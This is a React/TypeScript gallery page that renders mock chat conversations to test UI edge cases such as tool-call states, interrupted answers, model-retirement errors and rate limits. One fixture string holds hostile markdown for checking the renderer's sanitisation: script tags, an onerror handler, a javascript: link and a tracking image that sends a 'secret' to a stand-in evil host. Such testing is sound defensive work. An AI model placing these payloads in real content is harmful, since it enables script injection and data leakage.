'use client';
import { useState } from 'react';
import { Composer } from '@/components/chat/composer';
import { Conversation } from '@/components/chat/conversation';
import { ScreenHeader } from '@/components/shell/screen-header';
import type { ChatMessage } from '@/lib/chat/message';
import { catalog } from '@/lib/models/catalog';

const at = '2026-10-06T12:00:00Z';
const usage = {
  inputTokens: 1204,
  outputTokens: 96,
  cachedTokens: 0,
  totalTokens: 1300,
  estimated: true,
};
const a = (id: string, metadata: object, parts: unknown[]): ChatMessage =>
  ({
    id,
    role: 'assistant',
    parts,
    metadata: {
      run: 'r',
      offer: 'bedrock:us.mistral.pixtral-large-2502-v1:0',
      startedAt: at,
      state: 'complete',
      ...metadata,
    },
  }) as ChatMessage;
const u = (id: string, text: string): ChatMessage => ({
  id,
  role: 'user',
  parts: [{ type: 'text', text }],
  metadata: { sentAt: at },
});
const wild = `Hostile: <script>alert(1)</script> <img src=x onerror=alert(1)> [js](javascript:alert(1)) [ok](https://example.com/path) [rel](/api/x) ![tracking](https://evil.example/p.png?x=secret) ![d](data:image/png;base64,AAAA) [![in link](https://evil.example/a.png)](https://example.com) <https://auto.example>

| A very wide column heading | Another very wide heading | And another wide heading | One more wide heading | Last |
|---|---|---|---|---|
| averyveryverylongwordwithoutanyspaces_averyveryverylongword | 2 | 3 | 4 | 5 |

\`\`\`json
{ "a_very_long_line": "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx", "n": 1 }
\`\`\`

Price $5 and $6. Mass $E = mc^2$ and \\(a_1\\). Broken: $$\\frac{1$$ . A footnote[^1].

[^1]: The note.
`;
const t = (tool: string, id: string, rest: object) => ({
  type: `tool-${tool}`,
  toolCallId: id,
  ...rest,
});
const messages: ChatMessage[] = [
  u(
    '1',
    'A long question with a_word_that_never_ends_and_goes_on_and_on_and_on_and_on_and_on_and_on_and_on_and_on.\n\nAnd lines.',
  ),
  a(
    '2',
    {
      usage,
      timing: { firstTokenMs: 420, totalMs: 1770, tokensPerSecond: 71 },
      cost: { amount: 0.0014, currency: 'USD', priceAsOf: '2026-10-06' },
      toolMs: { t1: 12, t2: 340 },
    },
    [
      { type: 'step-start' },
      {
        type: 'reasoning',
        text: 'The person wants the status.\nI should call the tool.',
        state: 'done',
      },
      t('retrieve_payment_status', 't1', {
        state: 'output-available',
        input: { transaction_id: 'T1001' },
        output: { status: 'Paid' },
      }),
      t('retrieve_payment_date', 't2', {
        state: 'output-available',
        input: { transaction_id: 'T9' },
        output: { error: 'transaction id not found.' },
      }),
      t('retrieve_payment_date', 't3', {
        state: 'output-error',
        input: { transaction_id: 'T7' },
        errorText: 'The tool took too long.',
      }),
      { type: 'step-start' },
      t('unknown_tool', 't4', { state: 'output-available', input: { x: 1 }, output: { y: 2 } }),
      { type: 'text', text: wild, state: 'done' },
    ],
  ),
  u('3', 'Go on'),
  a('4', { state: 'stopped', offer: 'mistral:gone-model', usage }, [
    { type: 'text', text: 'Half an answ' },
  ]),
  u('5', 'Go on'),
  a(
    '6',
    {
      state: 'interrupted',
      offer: 'mistral:mistral-large-latest',
      error: {
        code: 'answer_interrupted',
        message: 'The answer was cut off before its end. What arrived is kept.',
      },
    },
    [
      { type: 'text', text: 'Some' },
      t('retrieve_payment_date', 't5', {
        state: 'input-available',
        input: { transaction_id: 'T1' },
      }),
    ],
  ),
  u('7', 'Go on'),
];
const failed = a(
  '8',
  {
    state: 'failed',
    offer: 'mistral:mistral-large-latest',
    error: {
      code: 'model_retired',
      message: 'Pixtral Large was retired by Mistral on 31 May 2026 and no longer answers.',
      action: { kind: 'use-model', offer: 'mistral:mistral-small-latest', name: 'Mistral Small' },
    },
  },
  [],
);
const running = a('9', { state: 'running' }, [
  t('retrieve_payment_status', 'r1', { state: 'input-streaming', input: { transaction_id: 'T1' } }),
  t('retrieve_payment_date', 'r2', {
    state: 'input-available',
    input: { transaction_id: 'T1005' },
  }),
]);
export function Gallery() {
  const [mode, setMode] = useState<'failed' | 'running' | 'thinking' | 'sending' | 'stream'>(
    'failed',
  );
  const tail =
    mode === 'failed'
      ? [failed]
      : mode === 'running'
        ? [running]
        : mode === 'thinking'
          ? [a('10', { state: 'running' }, [])]
          : mode === 'stream'
            ? [
                a('11', { state: 'running' }, [
                  { type: 'text', text: 'A list\n\n- one\n- two and **bol', state: 'streaming' },
                ]),
              ]
            : [];
  return (
    <>
      <ScreenHeader title="Gallery">
        <select
          data-testid="mode"
          value={mode}
          onChange={(e) => setMode(e.target.value as typeof mode)}
        >
          {['failed', 'running', 'thinking', 'sending', 'stream'].map((m) => (
            <option key={m}>{m}</option>
          ))}
        </select>
      </ScreenHeader>
      <Conversation
        messages={[...messages, ...tail]}
        status={mode === 'failed' ? 'ready' : mode === 'sending' ? 'sending' : 'running'}
        offers={[...catalog]}
        onRegenerate={() => {}}
        onUseModel={() => {}}
      />
      <Composer
        autoFocus={false}
        status={mode === 'failed' ? 'ready' : 'running'}
        reconnecting={mode === 'running'}
        refusal={
          mode === 'failed'
            ? {
                code: 'service_rate_limited',
                message: 'The service is limiting requests. Wait a moment, then retry.',
                action: { kind: 'retry' },
              }
            : null
        }
        offers={[...catalog]}
        offer="bedrock:mistral.mistral-7b-instruct-v0:2"
        onChooseOffer={() => {}}
        onUseModel={() => {}}
        onSend={async () => true}
        onStop={() => {}}
        onDismissRefusal={() => {}}
      />
    </>
  );
}
